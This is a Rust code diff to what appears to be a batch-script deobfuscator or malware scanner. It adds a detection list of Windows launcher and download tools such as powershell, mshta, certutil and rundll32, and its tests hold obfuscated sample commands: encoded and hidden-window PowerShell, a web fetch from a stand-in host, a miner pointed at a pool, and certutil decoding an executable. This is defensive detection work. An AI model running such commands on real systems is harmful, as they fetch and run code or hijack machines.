@@ -77,6 +77,27 @@ fn is_setting(command: &str) -> bool {
     command.get(..4).is_some_and(|word| word.eq_ignore_ascii_case("set "))
 }
 
+/// Whether a line starts something that runs text, or names where something is fetched from or mined for.
+fn starts_or_fetches(line: &str) -> bool {
+    const WORDS: [&str; 13] = [
+        "powershell",
+        "pwsh",
+        "mshta",
+        "wscript",
+        "cscript",
+        "certutil",
+        "bitsadmin",
+        "regsvr32",
+        "rundll32",
+        "wmic",
+        "cmd",
+        "://",
+        " -o ",
+    ];
+    let line = line.to_ascii_lowercase();
+    WORDS.iter().any(|word| line.contains(word))
+}
+
 /// Whether variables stand inside the first word: `po%x%wershell`.
 pub(crate) fn is_torn(text: &str) -> bool {
     let word = text.split_whitespace().next().unwrap_or_default();
@@ -292,6 +313,7 @@ impl Shell {
     fn fill(&mut self, line: &str, mark: char) -> String {
         let mut out = String::with_capacity(line.len());
         let mut rest = line;
+        let mut filled = false;
         while let Some(at) = rest.find(mark) {
             out.push_str(&rest[..at]);
             let after = &rest[at + 1..];
@@ -314,6 +336,7 @@ impl Shell {
             let value = self.reference(&after[..end]);
             rest = &after[end + 1..];
             if let Some(value) = value {
+                filled |= !value.is_empty() && self.sets(&after[..end]);
                 let inside = out.ends_with(|c: char| c.is_alphanumeric())
                     || rest.starts_with(|c: char| c.is_alphanumeric() || c == mark);
                 self.shreds += usize::from(value.chars().count() <= 3 && inside);
@@ -335,7 +358,15 @@ impl Shell {
             }
         }
         out.push_str(rest);
+        // What the script itself set is read where it says what is started or fetched: nowhere else does it stand whole.
+        self.changed |= filled && starts_or_fetches(&out);
         out
+    }
+
+    /// Whether the script sets what stands between two marks.
+    fn sets(&self, inside: &str) -> bool {
+        let name = inside.split(':').next().unwrap_or(inside);
+        self.vars.contains_key(&name.to_ascii_lowercase())
     }
 
     /// Whether what stands between two marks names a variable: by its letters, or because it was set.
@@ -510,6 +541,18 @@ mod tests {
         assert_eq!(written.children[0].text.trim_end(), "Set a = 1:b", "{:?}", written.children);
         let (_, decoded) = opened("echo QUJDREVGR0g=>x.b64\r\ncertutil -decode x.b64 x.exe");
         assert_eq!(decoded.children[0].text.trim_end(), "QUJDREVGR0g=");
+    }
+
+    #[test]
+    fn whole_words_are_filled_in_where_a_program_starts() {
+        for (text, line) in [
+            ("set \"c=QQ\"\r\npowershell -enc %c%", "powershell -enc QQ"),
+            ("set a=-w hidden\r\npowershell %a% -enc QQ", "powershell -w hidden -enc QQ"),
+            ("set U=http://a.example/x\r\npowershell iwr '%U%'", "powershell iwr 'http://a.example/x'"),
+            ("set P=pool.a.example:1\r\nm.exe -o %P% -u x", "m.exe -o pool.a.example:1 -u x"),
+        ] {
+            assert_eq!(plain(text).lines().last(), Some(line), "{text}");
+        }
     }
 
     #[test]
